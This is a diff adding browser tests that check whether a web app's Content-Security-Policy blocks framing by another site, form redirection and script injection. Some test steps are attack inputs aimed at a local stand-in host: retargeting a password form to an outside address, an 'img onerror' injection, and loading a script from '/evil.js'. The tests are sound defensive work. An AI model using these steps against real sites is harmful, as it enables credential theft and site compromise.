@@ -1,0 +1,105 @@
+"""What the pages' Content-Security-Policy lets through, and what it keeps out."""
+
+import pytest
+from playwright.async_api import Route
+
+from tests.browser.conftest import Stage
+from tests.browser.window import Window
+from tests.flows.app import App
+
+pytestmark = [pytest.mark.anyio, pytest.mark.browser, pytest.mark.xdist_group("browser")]
+
+FRAMED = (
+    "/",
+    "/login",
+    "/signup",
+    "/help/security",
+    "/settings/apps",
+    "/settings/sessions",
+    "/settings/password",
+    "/portal",
+    "/nothing/here",
+    "/oauth/authorize?oauth_token=x",
+)
+
+
+async def framed(stage: Stage, window: Window, url: str) -> str:
+    """What a page of another site that holds a frame gets to show in it."""
+    stage.sink.pages["/evil"] = (
+        f'<!doctype html><title>Evil</title><iframe src="{url}" width="800" height="600"></iframe>'
+    )
+    await window.open(f"{stage.sink.address}/evil")
+    (frame,) = window.page.frames[1:]
+    await frame.wait_for_load_state()
+    return str(await frame.evaluate("document.body ? document.body.innerText.trim() : ''"))
+
+
+@pytest.mark.attack("SR-128")
+async def test_no_page_can_be_framed_by_another_site(stage: Stage) -> None:
+    ann, app = await stage.person(), await stage.app()
+    window = await stage.window(ann)
+    consent, pin = app.asking(), app.asking1(callback="oob")
+    for url in (*(stage.base + path for path in FRAMED), consent, pin):
+        assert await framed(stage, window, url) in {"", "localhost refused to connect."}, url
+    complaints = [fault for fault in window.faults if "frame-ancestors" in fault or "X-Frame-Options" in fault]
+    assert len(complaints) >= len(FRAMED) + 2
+    window.faults.clear()
+    # The control: the same frame shows a page that does not mind.
+    assert await framed(stage, window, f"{stage.sink.address}/callback") == "Back at the app"
+
+
+def without_target(target: str) -> object:
+    """A door that takes one target out of the policy of a page, as if we had forgotten it."""
+
+    async def handle(route: Route) -> None:
+        answer = await route.fetch(max_redirects=0)
+        headers = dict(answer.headers)
+        assert target in headers["content-security-policy"]
+        headers["content-security-policy"] = headers["content-security-policy"].replace(target, "")
+        await route.fulfill(response=answer, headers=headers)
+
+    return handle
+
+
+async def pressed(window: Window, app: App) -> None:
+    await window.button("Authorize app").click()
+    await window.page.wait_for_timeout(500)
+
+
+@pytest.mark.attack("SR-129")
+async def test_a_policy_without_the_callback_would_stop_the_way_back(stage: Stage) -> None:
+    """The control for every walk that comes back to the app: Chromium does hold the redirect after a form to `form-action`."""
+    ann, app = await stage.person(), await stage.app()
+    window = await stage.window(ann)
+    handle = without_target(stage.sink.address)
+    asking = app.asking()
+    await window.page.route(asking, handle)  # type: ignore[arg-type]
+    await window.open(asking)
+    await pressed(window, app)
+    assert not stage.sink.arrivals
+    assert [fault for fault in window.faults if "form-action" in fault]
+    window.faults.clear()
+
+
+@pytest.mark.attack("SR-129")
+async def test_no_form_can_be_turned_to_another_site(stage: Stage) -> None:
+    """Even a script that got into the page could not send what somebody types to a stranger."""
+    ann, app = await stage.person(), await stage.app()
+    window = await stage.window(ann)
+    await window.open("/settings/password")
+    await window.run(
+        "(url) => { const form = document.querySelector('main form'); form.action = url; form.noValidate = true; form.submit(); }",
+        stage.sink.callback,
+    )
+    await window.page.wait_for_timeout(500)
+    await window.open(app.asking())
+    await window.run("(text) => document.body.insertAdjacentHTML('beforeend', text)", "<img src=x onerror='stolen()'>")
+    await window.run(
+        "(url) => document.head.append(Object.assign(document.createElement('script'), {src: url}))",
+        stage.sink.address + "/evil.js",
+    )
+    await window.page.wait_for_timeout(500)
+    assert not stage.sink.arrivals
+    blocked = [fault for fault in window.faults if "Content Security Policy" in fault]
+    assert len(blocked) >= 3
+    window.faults.clear()
